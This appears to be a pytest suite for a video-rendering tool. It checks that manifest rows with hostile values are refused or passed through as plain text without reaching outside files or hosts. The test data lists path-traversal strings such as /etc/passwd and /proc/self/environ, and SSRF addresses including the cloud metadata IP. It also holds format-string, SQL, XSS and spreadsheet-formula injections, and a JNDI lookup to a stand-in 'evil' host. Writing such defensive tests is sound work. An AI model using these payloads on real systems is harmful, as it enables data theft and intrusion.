"""Manifests that mean harm or are merely odd: every row is refused by name or rendered right, and nothing gets out."""

from __future__ import annotations

import json
import os
import socket
import tempfile
import threading
import unicodedata
from pathlib import Path

import pyarrow.parquet
import pytest

from longtake.domain.errors import ConfigurationError, InvalidManifestError, ManifestError
from longtake.files.names import file_name
from longtake.sandbox.app import Sandbox
from tests.e2e.quick_steps import quick_check
from tests.plain_render import render_plain, sandbox_accounts
from tests.sandbox.conftest import MediaShop
from tests.unit.media_server import media_server

SHOT = {"vendor": "evolink", "duration_seconds": 4, "resolution": "480p", "ratio": "16:9"}


@pytest.fixture
def sandbox(quick_sandbox):
    return quick_sandbox


@pytest.fixture
def yard(tmp_path, monkeypatch, sandbox):
    """A secret beside the manifest's folder; working directory and temporary files lie there too."""
    for name in ("manifest", "elsewhere", "cwd", "tmp"):
        (tmp_path / name).mkdir()
    (tmp_path / "secret.png").write_bytes(MediaShop.image_bytes())
    (tmp_path / "elsewhere/secret.png").write_bytes(MediaShop.image_bytes())
    (tmp_path / "manifest/fine.png").write_bytes(MediaShop.image_bytes())
    monkeypatch.chdir(tmp_path / "cwd")
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))
    return tmp_path


def tree(folder: Path) -> dict[str, tuple[object, ...]]:
    """Everything below a folder but its `out`: kind, size and time of change."""
    found = {}
    for base, folders, names in os.walk(folder):
        folders[:] = [name for name in folders if Path(base, name) != folder / "out"]
        for name in [*folders, *names]:
            about = Path(base, name).lstat()
            changed = None if Path(base, name).is_dir() else about.st_mtime_ns
            found[os.path.relpath(f"{base}/{name}", folder)] = (about.st_mode, about.st_ino, changed)
    return found


async def refusals(manifest: Path, output: Path, sandbox: Sandbox) -> dict[int, list]:
    """What the manifest is refused for, by row; it must be refused before any request."""
    with pytest.raises(InvalidManifestError) as refused:
        await render_plain(manifest, output, sandbox_accounts(sandbox), check=quick_check)
    assert sandbox.bill.request_count() == 0
    found: dict[int, list] = {}
    for violation in refused.value.violations:
        found.setdefault(violation.row, []).append(violation)
    return found


OUTSIDE = [
    "../secret.png",
    "sub/../../secret.png",
    "./../secret.png",
    "/etc/passwd",
    "{yard}/secret.png",
    "~/secret.png",
    "file:///etc/passwd",
    "file:fine.png",
    "FILE://fine.png",
    "local://fine.png",
    "simplecache::file:///etc/passwd",
    "filecache::https://example.com/a.png",
    "zip://a.png::file:///etc/passwd",
    "https://example.com/a.png::file:///etc/passwd",
    "memory://a.png",
    "ftp://example.com/a.png",
    "sftp://example.com/a.png",
    "git://example.com/a.png",
    "gopher://example.com/a.png",
    "javascript:alert(1)",
    "s3://other/a.png",
    "s3://../a.png",
    "asset://../../etc/passwd",
    "asset://",
    "C:\\secret.png",
    "..\\secret.png",
    "\\\\host\\share\\a.png",
    "link.png",
    "folder-link/secret.png",
    "device.png",
    "pipe.png",
    "sub",
    "none.png",
    "http://user:password@example.com/a.png",
    "http://",
    "http://example.com:99999/a.png",
    "data:text/html;base64,PGI+",
    "data:image/png;base64,!!!",
    "data:image/png,plain",
]


async def test_references_that_leave_the_manifests_folder_are_refused_by_name(yard, sandbox, write_manifest):
    (yard / "manifest/sub").mkdir()
    (yard / "manifest/link.png").symlink_to(yard / "secret.png")
    (yard / "manifest/folder-link").symlink_to(yard / "elsewhere")
    (yard / "manifest/device.png").symlink_to("/dev/zero")
    os.mkfifo(yard / "manifest/pipe.png")
    values = [value.replace("{yard}", str(yard)) for value in OUTSIDE]
    rows = [SHOT | {"id": f"row {n}", "prompt": "p", "first_frame": value} for n, value in enumerate(values)]
    manifest = write_manifest([*rows, SHOT | {"prompt": "fine", "first_frame": "fine.png"}])
    manifest = manifest.rename(yard / "manifest/m.csv")
    before = tree(yard)
    found = await refusals(manifest, yard / "out", sandbox)
    assert sorted(found) == list(range(1, len(rows) + 1)), [
        values[row - 1] for row in range(1, len(rows) + 1) if row not in found
    ]
    assert {violation.column for violations in found.values() for violation in violations} == {"first_frame"}
    words = "\n".join(str(violation) for violations in found.values() for violation in violations)
    assert "user:password" not in words
    assert "root:" not in words
    assert tree(yard) == before


@pytest.fixture
def inside():
    """A private host that was not allowed, and what it was asked for."""
    asked = []
    server = socket.create_server(("127.0.0.2", 0))

    def serve():
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            asked.append(connection.recv(1000))
            connection.close()

    threading.Thread(target=serve, daemon=True).start()
    yield f"127.0.0.2:{server.getsockname()[1]}", asked
    server.shutdown(socket.SHUT_RDWR)
    server.close()


async def test_private_hosts_are_refused_also_behind_redirects_and_are_never_asked(
    yard, sandbox, write_manifest, inside
):
    host, asked = inside
    port = host.rpartition(":")[2]
    with media_server() as media:
        media.files |= {
            "/once.png": f"http://{host}/a.png",
            "/twice.png": "/once.png",
            "/out.png": "file:///etc/passwd",
            "/loop.png": "/loop.png",
            "/fine.png": "/direct.png",
            "/direct.png": MediaShop.image_bytes(),
            "/page.png": b"<html><body>not found</body></html>",
        }
        bad = [
            f"http://{host}/a.png",
            f"http://2130706434:{port}/a.png",
            f"http://0x7f000002:{port}/a.png",
            f"http://[0:0:0:0:0:ffff:7f00:2]:{port}/a.png",
            f"http://[::1]:{port}/a.png",
            "http://10.0.0.1/a.png",
            "http://169.254.169.254/latest/meta-data/a.png",
            *(f"{media.url}/{name}.png" for name in ("once", "twice", "out", "loop", "page", "none")),
        ]
        rows = [SHOT | {"id": f"row {n}", "prompt": "p", "first_frame": value} for n, value in enumerate(bad)]
        rows.append(SHOT | {"id": "fine", "prompt": "fine", "first_frame": f"{media.url}/fine.png"})
        manifest = write_manifest(rows)
        found = await refusals(manifest, yard / "out", sandbox)
        assert sorted(found) == list(range(1, len(bad) + 1))
        private = [row for row, violations in found.items() if "LONGTAKE_ALLOW_HOSTS" in violations[0].fix]
        assert private == list(range(1, 10))
        assert asked == []
        end = await render_plain(
            manifest, yard / "out", sandbox_accounts(sandbox), check=quick_check, skip_refused=True
        )
    assert [row.verdict.value for row in end.rows] == ["refused"] * len(bad) + ["done"]
    assert asked == []
    assert sandbox.bill.count() == 1


RENDERED = {
    "NA": "NA",
    "None": "None",
    "null": "null",
    "nan": "nan",
    "-": "-",
    "0": "0",
    "TRUE": "TRUE",
    "1e5": "1e5",
    '=HYPERLINK("http://evil")': '=HYPERLINK("http://evil")',
    "%s %(reel)s $HOME `id`": "%s %(reel)s $HOME `id`",
    '{{"role": "user", "n": [1, 2]}}': '{"role": "user", "n": [1, 2]}',
    "{{{word}}}": "{{note}}",
    "{word}": "{note}",
    "{note}": "kept",
    'two\nlines\tand "quotes", commas': 'two\nlines\tand "quotes", commas',
    "雪山 🎬 e\u0301 \u202eabc": "雪山 🎬 e\u0301 \u202eabc",
    "<script>alert(1)</script>&amp;": "<script>alert(1)</script>&amp;",
    "'; DROP TABLE shots; --": "'; DROP TABLE shots; --",
}
"""Prompts as written, and as they must arrive. The row's `word` is `{note}`, which is never expanded again."""

TEMPLATES = [
    "{word.__class__}",
    "{word.__class__.__mro__[1]}",
    "{word[0]}",
    "{word!r}",
    "{word:>10}",
    "{0}",
    "{}",
    "{ word }",
    "{missing}",
    "{prompt}",
    "{word",
    "word}",
    '{"role": "user"}',
    "{{word}",
    "{__builtins__}",
]


async def test_odd_prompts_arrive_as_written_and_come_back_in_the_results(yard, sandbox, write_manifest):
    rows = [
        SHOT | {"id": f"row {n}", "prompt": prompt, "word": "{note}", "note": "kept"}
        for n, prompt in enumerate(RENDERED)
    ]
    end = await render_plain(write_manifest(rows), yard / "out", sandbox_accounts(sandbox), check=quick_check)
    assert end.verdicts == {"done": len(rows)}, {row.shot_id: row.error for row in end.rows if row.error}
    sent = {job.job_id: job.order.prompt for job in sandbox.jobs()}
    assert [sent[row.job_id] for row in end.rows] == list(RENDERED.values())
    results = pyarrow.parquet.read_table(yard / "out/results.parquet")
    assert results["prompt"].to_pylist() == list(RENDERED)


async def test_templates_that_reach_for_more_than_a_column_are_refused(yard, sandbox, write_manifest):
    rows = [SHOT | {"id": f"row {n}", "prompt": prompt, "word": "x"} for n, prompt in enumerate(TEMPLATES)]
    found = await refusals(write_manifest(rows), yard / "out", sandbox)
    assert sorted(found) == list(range(1, len(TEMPLATES) + 1))
    assert {violation.column for violations in found.values() for violation in violations} == {"prompt"}
    assert "{{ and }}" in found[TEMPLATES.index('{"role": "user"}') + 1][0].fix


NAMES = [
    "scene",
    "Scene",
    "SCENE",
    "scène",
    unicodedata.normalize("NFD", "scène"),
    "ﬁlm",
    "film",
    "straße",
    "strasse",
    "İ",
    "i̇",
    "ⅷ",
    "viii",
    "../../x",
    "..",
    ".",
    "...",
    "/etc/passwd",
    "a/b",
    "a\\b",
    "a:b",
    "a*b?",
    "con",
    "CON",
    "nul",
    "com1",
    "con.mp4",
    "x.",
    "x",
    "-rf",
    "🎬",
    "🎬🎬",
    "ledger",
    "clips",
    "%2e%2e%2fx",
    "~",
    "a|b",
    "x.take-2",
    "x.json",
    "l" * 200,
    "L" * 200,
    "雪" * 200,
    file_name("Scene"),
    "<img src=x onerror=alert(1)>",
    "${jndi:ldap://evil}",
]


async def test_odd_names_give_every_reel_and_shot_files_of_its_own_inside_the_output(yard, sandbox, write_manifest):
    rows = [SHOT | {"reel": name, "shot": "1", "prompt": f"reel {n}"} for n, name in enumerate(NAMES)]
    rows += [SHOT | {"reel": "shots", "shot": name, "prompt": f"shot {n}"} for n, name in enumerate(NAMES[:16])]
    before = tree(yard)
    manifest = write_manifest(rows)
    manifest.rename(yard / "manifest/m.csv")
    load = sandbox_accounts(sandbox, max_jobs_in_flight=40)
    end = await render_plain(yard / "manifest/m.csv", yard / "out", load, check=quick_check)
    assert end.verdicts == {"done": len(rows)}, {row.shot_id: row.error for row in end.rows if row.error}
    sent = {job.job_id: job.order.prompt for job in sandbox.jobs()}
    clips = [yard / "out" / row.clip for row in end.rows]
    assert len({unicodedata.normalize("NFKC", str(clip)).casefold() for clip in clips}) == len(rows)
    for row, written, clip in zip(end.rows, rows, clips, strict=True):
        assert clip.resolve().is_relative_to((yard / "out/clips").resolve())
        assert clip.is_file()
        sidecar = json.loads(clip.with_suffix(".json").read_text())
        assert sidecar["shot_id"] == row.shot_id == f"{written['reel']}/{written['shot']}"
        assert sent[sidecar["job_id"]] == written["prompt"]
        assert all(len(part.encode()) <= 255 for part in clip.parts)
    made = {reel.key for reel in end.reels_made}
    assert len({unicodedata.normalize("NFKC", key).casefold() for key in made}) == len(NAMES) + 1
    after = tree(yard)
    assert {name: after[name] for name in before} == before
    assert set(after) - set(before) == {"manifest/m.csv"}


REFUSED_NAMES = ["x" * 201, "\0", "a\nb", "a\x1b[31mb", "a\u202eb", "a\u2028b", "bell\a", "\x7f"]


@pytest.mark.parametrize("column", ["reel", "shot", "id"])
async def test_names_with_control_characters_or_without_end_are_refused(yard, sandbox, write_manifest, column):
    place = {"reel": "r", "shot": "1"} if column != "id" else {}
    rows = [SHOT | place | {"prompt": f"p{n}", "reel": f"r{n}"} for n in range(len(REFUSED_NAMES))]
    if column == "id":
        rows = [SHOT | {"prompt": f"p{n}"} for n in range(len(REFUSED_NAMES))]
    rows = [row | {column: name} for row, name in zip(rows, REFUSED_NAMES, strict=True)]
    found = await refusals(write_manifest(rows), yard / "out", sandbox)
    assert sorted(found) == list(range(1, len(REFUSED_NAMES) + 1))
    assert all(column in {violation.column for violation in violations} for violations in found.values())
    assert "\x1b" not in str(found[4][0])


async def test_names_that_are_one_name_are_refused(yard, sandbox, write_manifest):
    named = [("a", "1"), (" a ", "1"), ("b", "1"), ("c", "1"), ("c", "1 ")]
    rows = [SHOT | {"reel": reel, "shot": shot, "prompt": f"p{n}"} for n, (reel, shot) in enumerate(named)]
    rows.append(SHOT | {"id": "b", "prompt": "alone"})
    found = await refusals(write_manifest(rows), yard / "out", sandbox)
    columns = {row: violations[0].column for row, violations in found.items()}
    assert columns == {1: "shot", 2: "shot", 3: "shot", 4: "shot", 5: "shot", 6: "id"}


@pytest.mark.parametrize(
    "source",
    [
        "file:///etc/passwd",
        "http://127.0.0.1:9/m.csv",
        "simplecache::file:///etc/passwd",
        "zip://m.csv::m.zip",
        "memory://m.csv",
        "m.csv\0.parquet",
        "/dev/zero/x",
        "/etc/passwd",
        "/proc/self/environ",
    ],
)
async def test_a_manifest_of_another_kind_is_not_read(yard, sandbox, source):
    with pytest.raises(ManifestError) as refused:
        await render_plain(source, yard / "out", sandbox_accounts(sandbox), vendor="evolink")
    assert "root:" not in str(refused.value)
    assert "PATH=" not in str(refused.value)
    assert sandbox.bill.request_count() == 0


@pytest.mark.parametrize(
    "output", ["ftp://host/out", "memory://out", "https://host/out", "file:///tmp/out", "s3://", "/dev/null/out"]
)
async def test_an_output_of_another_kind_is_refused(yard, sandbox, write_manifest, output):
    before = tree(yard)
    manifest = write_manifest([SHOT | {"prompt": "p"}])
    with pytest.raises(ConfigurationError):
        await render_plain(manifest, output, sandbox_accounts(sandbox))
    assert tree(yard).keys() - before.keys() == {"manifest.csv"}
    assert sandbox.bill.request_count() == 0
